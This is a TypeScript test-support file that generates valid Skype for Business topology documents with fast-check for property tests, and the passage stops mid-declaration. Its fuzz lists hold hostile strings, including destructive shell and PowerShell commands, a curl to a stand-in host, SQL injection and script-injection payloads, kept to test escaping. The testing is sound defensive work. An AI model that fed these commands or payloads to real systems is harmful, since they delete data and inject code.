/**
 * TEST SUPPORT (imported only by tests): fast-check arbitraries of VALID topology
 * documents (format v2, or v1 with `arbV1Document`), built from the schema's own enums, patterns and limits, so every
 * generated document is one `parseTopology` accepts unchanged.
 *
 * Unlike a random walk over the schema, links are drawn from the allowed endpoint table
 * (link-kinds.ts), so documents are dense with the structures rules, steps and the
 * simulation care about: paired pools, Back Ends, mirrors and witnesses, next hops,
 * backup registrars, several links between the same two nodes, pairing chains. Counts
 * reach the schema's extremes (LIMITS.maxServersPerPool servers, 1,000,000 users),
 * names reach their length limit and carry hostile text, FQDNs repeat across nodes.
 */
import fc from 'fast-check';
import { LIMITS } from './limits';
import { LINK_ENDPOINTS } from './link-kinds';
import {
  AD_LEVELS,
  BRANCH_VARIANTS,
  DC_OS_VERSIONS,
  EDGE_EXTERNAL_ADDRESSING,
  EDGE_EXTERNAL_IP_MODES,
  GATEWAY_PEER_TYPES,
  SIMPLE_URL_COMPONENTS,
  TRUNK_TRANSPORTS,
  UPGRADE_SOURCES,
  COMMIT_MODES,
  DEPLOYMENT_MODES,
  FAILOVER_MODES,
  FILE_STORAGE,
  HA_MODES,
  HOSTINGS,
  LINK_KINDS,
  NODE_KINDS,
  OOS_ZONES,
  OS_VERSIONS,
  PRODUCT_VERSIONS,
  SIP_LB,
  SITE_KINDS,
  SQL_EDITIONS,
  SQL_VERSIONS,
  STORE_ROLES,
  WEB_LB,
  type Link,
  type LinkKind,
  type NodeKind,
  type Position,
  type Site,
  type Topology,
  type TopologyNode,
  CURRENT_VERSION,
} from './schema';

// ---------------------------------------------------------------- hostile text

/** The longest name the schema accepts. */
export const LONGEST_NAME = 'N'.repeat(LIMITS.maxNameChars - 1) + '\u00e9';

/**
 * Names that try to break out of whatever format they are written to: quotes,
 * PowerShell subexpressions, backticks, markup, CDATA ends, line breaks, bidi override,
 * NUL, and the longest allowed name. All valid (at most LIMITS.maxNameChars).
 */
export const HOSTILE_NAMES: readonly string[] = [
  "'",
  '"',
  "O'Brien's pool",
  '$(Remove-Item C:\\ -Recurse)',
  '`$(whoami)`',
  '```',
  '<script>alert(1)</script>',
  ']]>',
  ']]><script>alert(2)</script><![CDATA[',
  'line one\nline two',
  'crlf\r\nPS C:\\> Remove-Item C:\\ -Recurse',
  '\n# injected heading',
  '\u202Eevil\u202C reversed',
  'nul\u0000byte',
  '\u001b[31mred\u001b[0m',
  '<# block comment',
  '\u2018smart quote\u2019',
  '&amp; &lt; &#x3C;',
  '{{constructor.constructor("x")()}}',
  '__proto__',
  '',
  LONGEST_NAME,
];

/** One more than the schema accepts: must be refused with a clear message. */
export const TOO_LONG_NAME = 'x'.repeat(10_000);

/**
 * Text that tries to break out of the formats a design travels in (share link, SVG and
 * PNG metadata, XML): shell and SQL injection, command substitution, markup, CDATA ends,
 * entities and comments, mixed line breaks and tabs, bidi override, control characters,
 * emoji and other scripts, percent-encoding, a name of exactly LIMITS.maxNameChars. All
 * valid names. Pass them to arbTopology as `extraNames` to put them in random documents.
 */
export const HOSTILE_STRINGS: readonly string[] = [
  '"; rm -rf / #',
  "'; DROP TABLE pools; --",
  '$(curl evil.example)',
  '`whoami`',
  '<script>alert(1)</script>',
  ']]><script>alert(2)</script><![CDATA[',
  '&amp; &lt; &#x3C; <!-- -->',
  'line one\nline two\r\n\ttab',
  '\u202Eevil\u202C RTL override',
  '\u0000\u0001\u001f\u007f control',
  '🏢 Zürich – 東京 – القاهرة',
  '{{constructor.constructor("x")()}}',
  '%00%2e%2e%2f',
  'x'.repeat(LIMITS.maxNameChars),
];

/** Any valid name: arbitrary Unicode (no lone surrogates: fast-check never makes them; share.test.ts has one by hand), hostile text, the longest one. */
export const arbName: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.string({ maxLength: 24 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'grapheme', maxLength: 16 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 24 }) },
  { weight: 3, arbitrary: fc.constantFrom(...HOSTILE_NAMES) },
  { weight: 1, arbitrary: fc.string({ maxLength: LIMITS.maxNameChars }) },
);

/** Free text fields other than names and the description (region, share, update levels). */
const arbText = (max: number = LIMITS.maxTextChars, min = 0): fc.Arbitrary<string> =>
  fc.oneof(
    {
      weight: 3,
      arbitrary: fc.constantFrom('CU8', 'CU22', 'SP2', 'EU', 'NA', 'contoso.com', 'sfbshare').filter((s) => s.length >= min),
    },
    { weight: 2, arbitrary: fc.string({ minLength: min, maxLength: 24 }) },
    { weight: 1, arbitrary: fc.constantFrom(...HOSTILE_NAMES).filter((s) => s.length >= min && s.length <= max) },
    { weight: 1, arbitrary: fc.string({ minLength: Math.max(min, max - 2), maxLength: max }) },
  );

// ---------------------------------------------------------------- identifiers

const ID_CHARS = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789_.-'.split('');

/** A valid id (ID_PATTERN), sometimes of the maximum length, never `__proto__`. */
export const arbId: fc.Arbitrary<string> = fc
  .oneof(
    { weight: 6, arbitrary: fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength: 1, maxLength: 10 }) },
    { weight: 1, arbitrary: fc.string({ unit: fc.constantFrom(...ID_CHARS), minLength: 60, maxLength: 64 }) },
    // Ids that look like what other code may treat specially.
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        'constructor',
        'toString',
        'hasOwnProperty',
        'valueOf',
        '0',
        '-',
        '.',
        '..',
        'null',
        'undefined',
        'NaN',
      ),
    },
  )
  .filter((s) => s !== '__proto__');

const LABEL_CHARS = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789'.split('');
const arbLabel: fc.Arbitrary<string> = fc
  .tuple(
    fc.string({ unit: fc.constantFrom(...LABEL_CHARS), minLength: 1, maxLength: 1 }),
    fc.string({ unit: fc.constantFrom(...LABEL_CHARS, '-'), maxLength: 10 }),
    fc.string({ unit: fc.constantFrom(...LABEL_CHARS), maxLength: 1 }),
  )
  .map(([a, mid, b]) => (b ? a + mid + b : a));

/** A valid FQDN (FQDN_PATTERN): often reused across nodes, sometimes a single label, sometimes 253 characters. */
export const arbFqdn: fc.Arbitrary<string> = fc.oneof(
  { weight: 6, arbitrary: fc.array(arbLabel, { minLength: 2, maxLength: 4 }).map((ls) => ls.join('.')) },
  {
    weight: 3,
    arbitrary: fc.constantFrom('pool.contoso.com', 'sql.contoso.com', 'POOL.contoso.com', 'edge.contoso.com', 'sfb.fabrikam.net'),
  },
  { weight: 1, arbitrary: arbLabel },
  { weight: 1, arbitrary: fc.constant(`${'a'.repeat(63)}.${'b'.repeat(63)}.${'c'.repeat(63)}.${'d'.repeat(61)}`) },
);

const instanceChars = [...LABEL_CHARS, '_', '$', '#'];
const arbInstance = fc.oneof(
  fc.constant(''),
  fc.constantFrom('RTC', 'rtc', 'LYNCLOCAL', 'A$B#1'),
  fc.string({ unit: fc.constantFrom(...instanceChars), minLength: 1, maxLength: 16 }),
);

// ---------------------------------------------------------------- numbers

const optional = <T>(a: fc.Arbitrary<T>): fc.Arbitrary<T | undefined> => fc.option(a, { nil: undefined });

export interface TopologyArbitraryOptions {
  maxSites?: number;
  maxNodes?: number;
  maxLinks?: number;
  /**
   * Counts (servers, users, cluster nodes) up to the schema's maxima, e.g. a pool of
   * LIMITS.maxServersPerPool servers, on a small share of nodes. Default true.
   */
  extremeCounts?: boolean;
  /**
   * Valid names (e.g. HOSTILE_STRINGS) drawn, besides arbName, for the document, its
   * description, sites and nodes: a quarter of those names. Default none.
   */
  extraNames?: readonly string[];
  /**
   * Also the values the share link's compact codec stores as a prediction or a common
   * factor rather than as the value (app/share/compact-codec.ts): node names equal to the
   * id in capitals, link ids `l1`, `l2`… in document order (half of the documents), layout
   * positions on the canvas's 8-pixel grid (some positions; every position in half of the
   * documents, a common factor of all deltas) and whole numbers up to ±1e7. Default false.
   */
  codecPredictions?: boolean;
  /**
   * 2 (default): every kind, value and optional field of format v2. 1: only what a
   * format-v1 document could hold (the document still says version 2: `arbV1Document`
   * stamps version 1 on it).
   */
  formatVersion?: 1 | 2;
}

/** Kinds, links and values format v1 had. */
const V1_NODE_KINDS: readonly NodeKind[] = [
  'frontEndPool',
  'standardEditionServer',
  'sqlStore',
  'edgePool',
  'directorPool',
  'mediationPool',
  'persistentChatPool',
  'fileStore',
  'officeOnlineServer',
  'survivableBranch',
];
const V1_LINK_KINDS: readonly LinkKind[] = [
  'backEnd',
  'store',
  'mirror',
  'witness',
  'pairing',
  'nextHop',
  'mediaEdge',
  'fileStore',
  'officeOnline',
  'backupRegistrar',
  'logShipping',
];
const V1_PRODUCT_VERSIONS = ['2015', '2019'] as const;
const V1_OS = ['WS2012', 'WS2012R2', 'WS2016', 'WS2019', 'WS2022'] as const;

const arbIp = fc.oneof(fc.ipV4(), fc.constantFrom('0.0.0.0', '203.0.113.10', '2001:db8::1'));
const arbUrl = fc.oneof(
  fc.webUrl(),
  fc.constantFrom(
    'https://oos.contoso.com/hosting/discovery',
    'https://oos.contoso.com/hosting/discover/',
    'htps://typo',
    ' https://spaced.example/ ',
  ),
);

/** Server counts: mostly realistic, sometimes at the schema's maximum (LIMITS.maxServersPerPool). */
function serverCount(extreme: boolean, realisticMax: number): fc.Arbitrary<number> {
  const realistic = fc.integer({ min: 1, max: realisticMax });
  if (!extreme) return realistic;
  return fc.oneof(
    { weight: 20, arbitrary: realistic },
    { weight: 1, arbitrary: fc.integer({ min: 1, max: LIMITS.maxServersPerPool }) },
    { weight: 1, arbitrary: fc.constant(LIMITS.maxServersPerPool) },
  );
}

/** Users: the schema's Count(0) caps at 1,000,000 before the kinds' larger caps. */
function userCount(extreme: boolean): fc.Arbitrary<number> {
  const realistic = fc.oneof(
    fc.integer({ min: 0, max: 40_000 }),
    fc.integer({ min: 0, max: 200 }).map((n) => n * 500),
  );
  if (!extreme) return realistic;
  return fc.oneof(
    { weight: 10, arbitrary: realistic },
    { weight: 1, arbitrary: fc.constantFrom(0, 1_000_000) },
    { weight: 1, arbitrary: fc.integer({ min: 0, max: 1_000_000 }) },
  );
}

const port = fc.oneof(fc.integer({ min: 1, max: 65535 }), fc.constantFrom(1, 1433, 5022, 7022, 65535));

/** Drops keys whose value is undefined, as JSON would. */
function clean<T extends object>(o: T): T {
  return Object.fromEntries(Object.entries(o).filter(([, v]) => v !== undefined)) as T;
}

// ---------------------------------------------------------------- nodes

function arbNode(
  kind: NodeKind,
  id: string,
  siteIds: readonly string[],
  extreme: boolean,
  names: fc.Arbitrary<string> = arbName,
  upperCaseId = false,
  v2 = true,
): fc.Arbitrary<TopologyNode> {
  const node = arbNodeV1Fields(kind, id, siteIds, extreme, names, upperCaseId, v2);
  if (!v2) return node;
  return fc.tuple(node, arbV2Extras(kind, extreme)).map(([n, extra]) => {
    const out = clean({ ...n, ...extra.fields }) as TopologyNode & { os?: string; inPlaceUpgrade?: unknown };
    // Windows Server 2008 R2 only with an in-place upgrade (the parser's rule).
    if (extra.legacyOs && out.inPlaceUpgrade && 'os' in out && out.os !== undefined) out.os = 'WS2008R2';
    return out as TopologyNode;
  });
}

/** The optional fields format v2 added, per kind (absent ones dropped). */
function arbV2Extras(kind: NodeKind, extreme: boolean): fc.Arbitrary<{ fields: Record<string, unknown>; legacyOs: boolean }> {
  const bool = fc.boolean();
  const lifecycle = fc.record({
    decommission: optional(bool),
    inPlaceUpgrade: optional(
      fc
        .record({ fromVersion: fc.constantFrom(...UPGRADE_SOURCES), fromOs: optional(fc.constantFrom(...OS_VERSIONS)) })
        .map(clean),
    ),
  });
  const platform = fc.record({ os: optional(fc.constantFrom(...V1_OS)), cumulativeUpdate: optional(arbText()) });
  const workload = fc.record({
    enterpriseVoice: optional(bool),
    dialIn: optional(bool),
    largestMeeting: optional(fc.integer({ min: 1, max: extreme ? 1_000_000 : 2_000 })),
  });
  const with_ = (...parts: fc.Arbitrary<Record<string, unknown>>[]) =>
    fc
      .tuple(fc.tuple(...parts), bool)
      .map(([ps, legacyOs]) => ({ fields: Object.assign({}, ...ps) as Record<string, unknown>, legacyOs }));
  const none = fc.constant({ fields: {}, legacyOs: false });
  switch (kind) {
    case 'frontEndPool':
      return with_(lifecycle, workload, fc.record({ internalWebFqdn: optional(arbFqdn), externalWebFqdn: optional(arbFqdn) }));
    case 'standardEditionServer':
      return with_(lifecycle, workload, fc.record({ externalWebFqdn: optional(arbFqdn), deployed: optional(bool) }));
    case 'sqlStore':
      return with_(fc.record({ currentHaMode: optional(fc.constantFrom(...HA_MODES)), hostsNonSfbDatabases: optional(bool) }));
    case 'edgePool':
      return with_(
        lifecycle,
        platform,
        fc.record({
          domain: optional(arbText()),
          hlbDirectServerReturn: optional(bool),
          externalAddressing: optional(fc.constantFrom(...EDGE_EXTERNAL_ADDRESSING)),
          externalIpMode: optional(fc.constantFrom(...EDGE_EXTERNAL_IP_MODES)),
          externalSipFqdn: optional(arbFqdn),
          externalWebConfFqdn: optional(arbFqdn),
          externalAvFqdn: optional(arbFqdn),
          natAddresses: optional(fc.array(arbIp, { maxLength: 4 })),
        }),
      );
    case 'directorPool':
      return with_(lifecycle, platform, fc.record({ internalWebFqdn: optional(arbFqdn), externalWebFqdn: optional(arbFqdn) }));
    case 'mediationPool':
      return with_(lifecycle, platform);
    case 'persistentChatPool':
      return with_(
        lifecycle,
        platform,
        fc.record({ concurrentUsers: optional(userCount(extreme)), domain: optional(arbText()) }),
      );
    case 'fileStore':
      return with_(fc.record({ backupIntervalHours: optional(fc.integer({ min: 1, max: 8_760 })) }));
    case 'officeOnlineServer':
      return with_(fc.record({ discoveryUrl: optional(arbUrl) }));
    case 'survivableBranch':
      return with_(lifecycle, fc.record({ productVersion: optional(fc.constantFrom(...PRODUCT_VERSIONS)) }));
    case 'reverseProxy':
    case 'gatewayPeer':
    case 'videoInteropPool':
      return none;
  }
}

function arbNodeV1Fields(
  kind: NodeKind,
  id: string,
  siteIds: readonly string[],
  extreme: boolean,
  names: fc.Arbitrary<string>,
  upperCaseId: boolean,
  v2: boolean,
): fc.Arbitrary<TopologyNode> {
  const site = fc.constantFrom(...siteIds);
  const name = fc.oneof(
    { weight: 3, arbitrary: names },
    { weight: 1, arbitrary: fc.constant(id) },
    ...(upperCaseId ? [{ weight: 1, arbitrary: fc.constant(id.toUpperCase()) }] : []),
  );
  const base = fc.record({ name, siteId: site, fqdn: arbFqdn });
  const pv = v2 ? fc.constantFrom(...PRODUCT_VERSIONS) : fc.constantFrom(...V1_PRODUCT_VERSIONS);
  const bool = fc.boolean();
  const users = userCount(extreme);
  switch (kind) {
    case 'frontEndPool':
      return fc
        .record({
          b: base,
          productVersion: pv,
          frontEndServers: serverCount(extreme, 16),
          users,
          hosting: fc.constantFrom(...HOSTINGS),
          os: fc.constantFrom(...V1_OS),
          cumulativeUpdate: optional(arbText()),
          sipLoadBalancing: fc.constantFrom(...SIP_LB),
          webLoadBalancing: fc.constantFrom(...WEB_LB),
          mediationCollocated: bool,
          conferencing: bool,
          largeMeetingPool: optional(bool),
          deployed: optional(bool),
          domain: optional(arbText()),
        })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'standardEditionServer':
      return fc
        .record({
          b: base,
          productVersion: pv,
          users,
          hosting: fc.constantFrom(...HOSTINGS),
          os: fc.constantFrom(...V1_OS),
          cumulativeUpdate: optional(arbText()),
          mediationCollocated: bool,
          domain: optional(arbText()),
        })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'sqlStore': {
      const replica = fc.record({
        fqdn: arbFqdn,
        siteId: site,
        commitMode: fc.constantFrom(...COMMIT_MODES),
        failoverMode: fc.constantFrom(...FAILOVER_MODES),
        readable: bool,
      });
      const replicas = fc.oneof(
        { weight: 12, arbitrary: fc.array(replica, { maxLength: 5 }) },
        {
          weight: extreme ? 1 : 0,
          arbitrary: fc.array(replica, { minLength: LIMITS.maxListItems, maxLength: LIMITS.maxListItems }),
        },
      );
      const ag = fc.record({ listenerFqdn: arbFqdn, listenerPort: optional(port), replicas }).map(clean);
      return fc
        .record({
          b: base,
          instance: arbInstance,
          sqlVersion: fc.constantFrom(...SQL_VERSIONS),
          sqlEdition: fc.constantFrom(...SQL_EDITIONS),
          sqlUpdateLevel: optional(arbText()),
          haMode: fc.constantFrom(...HA_MODES),
          ag: optional(ag),
          listenerIsFqdn: bool,
          clusterNodes: optional(fc.integer({ min: 1, max: 64 })),
          domain: optional(arbText()),
        })
        .map(({ b, listenerIsFqdn, ag, ...r }) =>
          clean({ id, kind, ...b, ...r, ag: ag && listenerIsFqdn ? { ...ag, listenerFqdn: b.fqdn } : ag }),
        );
    }
    case 'edgePool':
      return fc
        .record({
          b: base,
          productVersion: pv,
          servers: serverCount(extreme, 12),
          internalLoadBalancing: fc.constantFrom(...SIP_LB),
          externalLoadBalancing: fc.constantFrom(...SIP_LB),
          federation: bool,
          xmpp: bool,
          concurrentRemoteUsers: optional(users),
        })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'directorPool':
      return fc
        .record({
          b: base,
          productVersion: pv,
          servers: serverCount(extreme, 10),
          sipLoadBalancing: fc.constantFrom(...SIP_LB),
          webLoadBalancing: fc.constantFrom(...WEB_LB),
        })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'mediationPool':
      return fc
        .record({ b: base, productVersion: pv, servers: serverCount(extreme, 10) })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'persistentChatPool': {
      const server = fc.record({ siteId: site, active: bool });
      const servers = fc.oneof(
        { weight: 12, arbitrary: fc.array(server, { maxLength: 8 }) },
        {
          weight: extreme ? 1 : 0,
          arbitrary: fc.array(server, { minLength: LIMITS.maxListItems, maxLength: LIMITS.maxListItems }),
        },
      );
      return fc
        .record({ b: base, productVersion: pv, servers, compliance: bool })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    }
    case 'fileStore':
      return fc
        .record({ b: base, share: arbText(LIMITS.maxTextChars, 1), storage: fc.constantFrom(...FILE_STORAGE) })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'officeOnlineServer':
      return fc
        .record({ b: base, servers: serverCount(extreme, 10), zone: fc.constantFrom(...OOS_ZONES) })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'survivableBranch':
      return fc
        .record({ b: base, variant: fc.constantFrom(...BRANCH_VARIANTS), users })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
    case 'reverseProxy':
      return base.map((b) => ({ id, kind, ...b }));
    case 'gatewayPeer':
      return fc
        .record({
          b: base,
          peerType: fc.constantFrom(...GATEWAY_PEER_TYPES),
          dnsLoadBalancing: bool,
          acceptsAnyPoolMember: bool,
          mediaBypass: bool,
        })
        .map(({ b, ...r }) => ({ id, kind, ...b, ...r }));
    case 'videoInteropPool':
      return fc
        .record({
          b: base,
          productVersion: pv,
          servers: serverCount(extreme, 8),
          concurrentTranscodedVtcs: optional(fc.integer({ min: 0, max: extreme ? 100_000 : 64 })),
        })
        .map(({ b, ...r }) => clean({ id, kind, ...b, ...r }));
  }
}

// ---------------------------------------------------------------- links

const arbLinkExtras = fc.record({
  role: fc.constantFrom(...STORE_ROLES),
  port: optional(port),
  synchronous: optional(fc.boolean()),
  voiceFailover: optional(fc.boolean()),
  voiceFailoverSeconds: optional(fc.oneof(fc.constantFrom(1, 300, 86_400), fc.integer({ min: 1, max: 86_400 }))),
  share: optional(fc.oneof(fc.constant('\\\\fs1\\logship'), arbText())),
  mediationPort: optional(port),
  peerPort: optional(port),
  transport: optional(fc.constantFrom(...TRUNK_TRANSPORTS)),
});
type LinkExtras = typeof arbLinkExtras extends fc.Arbitrary<infer T> ? T : never;

function extrasFor(kind: LinkKind, e: LinkExtras, v2: boolean): Record<string, unknown> {
  switch (kind) {
    case 'logShipping':
      return v2 ? clean({ share: e.share }) : {};
    case 'trunk':
      return clean({ mediationPort: e.mediationPort, peerPort: e.peerPort, transport: e.transport });
    case 'store':
      return { role: e.role };
    case 'mirror':
      return clean({ port: e.port, synchronous: e.synchronous });
    case 'witness':
      return clean({ port: e.port });
    case 'pairing':
      return clean({ voiceFailover: e.voiceFailover, voiceFailoverSeconds: e.voiceFailoverSeconds });
    case 'backEnd':
    case 'nextHop':
    case 'mediaEdge':
    case 'fileStore':
    case 'officeOnline':
    case 'backupRegistrar':
      return {};
  }
}

/** Link kinds weighted towards the ones that carry HA/DR meaning. */
const LINK_WEIGHT: Record<LinkKind, number> = {
  backEnd: 4,
  store: 2,
  mirror: 2,
  witness: 2,
  pairing: 4,
  nextHop: 2,
  mediaEdge: 1,
  fileStore: 2,
  officeOnline: 1,
  backupRegistrar: 2,
  logShipping: 1,
  trunk: 2,
};
const NODE_WEIGHT: Record<NodeKind, number> = {
  frontEndPool: 4,
  standardEditionServer: 2,
  sqlStore: 4,
  edgePool: 2,
  directorPool: 1,
  mediationPool: 1,
  persistentChatPool: 1,
  fileStore: 2,
  officeOnlineServer: 1,
  survivableBranch: 2,
  reverseProxy: 1,
  gatewayPeer: 2,
  videoInteropPool: 1,
};
const kindsOf = <K extends string>(kinds: readonly K[], weight: Record<K, number>) =>
  fc.oneof(...kinds.map((k) => ({ weight: weight[k], arbitrary: fc.constant(k) })));
const arbNodeKind = (v2: boolean) => kindsOf(v2 ? NODE_KINDS : V1_NODE_KINDS, NODE_WEIGHT);
const arbLinkKind = (v2: boolean) => kindsOf(v2 ? LINK_KINDS : V1_LINK_KINDS, LINK_WEIGHT);

/** A link of `kind` between two distinct nodes whose kinds the endpoint table allows, picked by `a`, `b`, `c`. */
function pickEndpoints(
  kind: LinkKind,
  nodes: readonly TopologyNode[],
  a: number,
  b: number,
  c: number,
): [TopologyNode, TopologyNode] | undefined {
  const options = LINK_ENDPOINTS[kind];
  const e = options[c % options.length]!;
  const froms = nodes.filter((n) => e.from.includes(n.kind));
  const tos = nodes.filter((n) => e.to.includes(n.kind));
  if (!froms.length || !tos.length) return undefined;
  const from = froms[a % froms.length]!;
  const candidates = tos.filter((n) => n.id !== from.id);
  if (!candidates.length) return undefined;
  return [from, candidates[b % candidates.length]!];
}

// ---------------------------------------------------------------- layout

const coordinate = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: -2000, max: 4000 }) },
  { weight: 1, arbitrary: fc.constantFrom(-1e7, 1e7, 0, -0) },
  { weight: 1, arbitrary: fc.double({ min: -1e7, max: 1e7, noNaN: true, noDefaultInfinity: true }) },
);

/** With codecPredictions: also any whole number up to ±1e7 and multiples of 8 (a common factor of the deltas). */
const predictedCoordinate = fc.oneof(
  { weight: 4, arbitrary: fc.integer({ min: -1e7, max: 1e7 }) },
  { weight: 2, arbitrary: fc.integer({ min: -100, max: 2000 }).map((n) => n * 8) },
  { weight: 2, arbitrary: coordinate },
);

// ---------------------------------------------------------------- document

/** A valid topology (parseTopology accepts it unchanged), built in one piece so shrinking stays valid. */
export function arbTopology(o: TopologyArbitraryOptions = {}): fc.Arbitrary<Topology> {
  const maxSites = o.maxSites ?? 4;
  const maxNodes = o.maxNodes ?? 14;
  const maxLinks = o.maxLinks ?? 20;
  const extreme = o.extremeCounts ?? true;
  const predictions = o.codecPredictions ?? false;
  const names = o.extraNames?.length
    ? fc.oneof({ weight: 3, arbitrary: arbName }, { weight: 1, arbitrary: fc.constantFrom(...o.extraNames) })
    : arbName;
  const point = predictions ? predictedCoordinate : coordinate;
  const v2 = (o.formatVersion ?? 2) === 2;
  return fc
    .record({
      siteCount: fc.integer({ min: 1, max: maxSites }),
      kinds: fc.array(arbNodeKind(v2), { maxLength: maxNodes, size: 'max' }),
      linkCount: fc.integer({ min: 0, max: maxLinks }),
    })
    .chain(({ siteCount, kinds, linkCount }) => {
      const idCount = siteCount + kinds.length + linkCount;
      return fc.uniqueArray(arbId, { minLength: idCount, maxLength: idCount }).chain((ids) => {
        const siteIds = ids.slice(0, siteCount);
        const nodeIds = ids.slice(siteCount, siteCount + kinds.length);
        const linkIds = ids.slice(siteCount + kinds.length);
        const sites = fc.tuple(
          ...siteIds.map((id) =>
            fc
              .record({
                name: fc.oneof(names, fc.constant(id)),
                kind: fc.constantFrom(...SITE_KINDS),
                region: optional(arbText()),
                datacenter: optional(arbText()),
                parentSiteId:
                  v2 && siteIds.length > 1
                    ? optional(fc.constantFrom(...siteIds.filter((p) => p !== id)))
                    : fc.constant(undefined),
              })
              .map((s) => clean({ id, ...s }) as Site),
          ),
        );
        const nodes = kinds.length
          ? fc.tuple(...kinds.map((k, i) => arbNode(k, nodeIds[i]!, siteIds, extreme, names, predictions, v2)))
          : fc.constant([] as TopologyNode[]);
        const slot = fc.record({ kind: arbLinkKind(v2), a: fc.nat(), b: fc.nat(), c: fc.nat(), extras: arbLinkExtras });
        const siteLink = fc.record({
          a: fc.nat(),
          b: fc.nat(),
          fast: fc.boolean(),
          secured: fc.boolean(),
          resilient: fc.boolean(),
        });
        const envelope = v2
          ? fc.record({
              siteLinks: optional(fc.array(siteLink, { maxLength: 4 })),
              activeDirectory: optional(
                fc.record({
                  forestLevel: fc.constantFrom(...AD_LEVELS),
                  domainLevel: fc.constantFrom(...AD_LEVELS),
                  domainControllerOs: fc.uniqueArray(fc.constantFrom(...DC_OS_VERSIONS), { maxLength: 3 }),
                }),
              ),
              simpleUrls: optional(
                fc.array(
                  fc.record({
                    component: fc.constantFrom(...SIMPLE_URL_COMPONENTS),
                    domain: fc.oneof(fc.constant('*'), arbText()),
                    url: arbUrl,
                  }),
                  { maxLength: 3 },
                ),
              ),
            })
          : fc.constant({ siteLinks: undefined, activeDirectory: undefined, simpleUrls: undefined });
        const layoutSize = siteCount + kinds.length;
        return fc
          .record({
            name: names,
            description: optional(
              fc.oneof(
                names,
                fc.lorem({ maxCount: 30 }),
                fc.string({ minLength: LIMITS.maxDescriptionChars - 1, maxLength: LIMITS.maxDescriptionChars }),
              ),
            ),
            mode: fc.constantFrom(...DEPLOYMENT_MODES),
            sites,
            nodes,
            links: fc.array(slot, { minLength: linkCount, maxLength: linkCount }),
            sequentialLinkIds: predictions ? fc.boolean() : fc.constant(false),
            snapToGrid: predictions ? fc.boolean() : fc.constant(false),
            cmsPick: fc.option(fc.nat(), { nil: undefined, freq: 4 }),
            layoutMode: fc.constantFrom('none', 'empty', 'some', 'all'),
            layoutPick: fc.array(fc.boolean(), { minLength: layoutSize, maxLength: layoutSize }),
            coords: fc.array(fc.tuple(point, point), { minLength: layoutSize, maxLength: layoutSize }),
            envelope,
          })
          .map((r): Topology => {
            const nodeList = [...r.nodes];
            const linkList: Link[] = [];
            r.links.forEach((s, i) => {
              const ends = pickEndpoints(s.kind, nodeList, s.a, s.b, s.c);
              if (!ends) return;
              const id = r.sequentialLinkIds ? `l${linkList.length + 1}` : linkIds[i]!;
              linkList.push({ id, kind: s.kind, from: ends[0].id, to: ends[1].id, ...extrasFor(s.kind, s.extras, v2) } as Link);
            });
            // Site links need two sites; their ids come after every other id (`sl<n>` unless taken).
            const taken = new Set([...siteIds, ...nodeIds, ...linkList.map((l) => l.id)]);
            const siteLinks =
              siteIds.length < 2
                ? undefined
                : r.envelope.siteLinks?.map((x, i) => {
                    let id = `sl${i + 1}`;
                    while (taken.has(id)) id = `${id}x`;
                    taken.add(id);
                    const from = siteIds[x.a % siteIds.length]!;
                    const others = siteIds.filter((sid) => sid !== from);
                    return {
                      id,
                      from,
                      to: others[x.b % others.length]!,
                      fast: x.fast,
                      secured: x.secured,
                      resilient: x.resilient,
                    };
                  });
            if (r.sequentialLinkIds) {
              // `l<n>` ids must not collide with site or node ids.
              const taken = new Set([...siteIds, ...nodeIds]);
              for (const l of linkList) {
                while (taken.has(l.id)) l.id = `${l.id}x`;
                taken.add(l.id);
              }
            }
            const registrars = nodeList.filter((n) => n.kind === 'frontEndPool' || n.kind === 'standardEditionServer');
            const cmsHost = registrars.length && r.cmsPick !== undefined ? registrars[r.cmsPick % registrars.length]!.id : null;
            const allIds = [...siteIds, ...nodeIds];
            let layout: Record<string, Position> | undefined;
            const at = (v: number) => (r.snapToGrid ? Math.round(v / 8) * 8 : v);
            if (r.layoutMode !== 'none') {
              layout = {};
              if (r.layoutMode !== 'empty')
                allIds.forEach((id, i) => {
                  if (r.layoutMode === 'all' || r.layoutPick[i]) layout![id] = { x: at(r.coords[i]![0]), y: at(r.coords[i]![1]) };
                });
            }
            return clean({
              format: 'sfb-topology' as const,
              version: CURRENT_VERSION,
              name: r.name,
              description: r.description,
              deployment: clean({
                cmsHost,
                mode: r.mode,
                activeDirectory: r.envelope.activeDirectory,
                simpleUrls: r.envelope.simpleUrls,
              }),
              sites: [...r.sites],
              nodes: nodeList,
              links: linkList,
              siteLinks,
              layout,
            });
          });
      });
    });
}

/** A format-v1 document as a v1 designer wrote it (`version: 1`, nothing v2 added). */
export type V1Document = Omit<Topology, 'version'> & { version: 1 };
export function arbV1Document(o: Omit<TopologyArbitraryOptions, 'formatVersion'> = {}): fc.Arbitrary<V1Document> {
  return arbTopology({ ...o, formatVersion: 1 }).map((d) => ({ ...d, version: 1 as const }));
}

/** Every id of a document (sites, nodes, links), for "ids in findings exist" properties. */
/** The ids of a document; `links` holds the server links and the WAN links (a finding may name either). */
export function idsOf(doc: Topology): { sites: Set<string>; nodes: Set<string>; links: Set<string> } {
  return {
    sites: new Set(doc.sites.map((s) => s.id)),
    nodes: new Set(doc.nodes.map((n) => n.id)),
    links: new Set([...doc.links.map((l) => l.id), ...(doc.siteLinks ?? []).map((l) => l.id)]),
  };
}

// ---------------------------------------------------------------- mutations (hostile documents)

type PathKey = string | number;

/** One edit of a JSON value, with numeric selectors so fast-check can shrink it. */
export type JsonMutation =
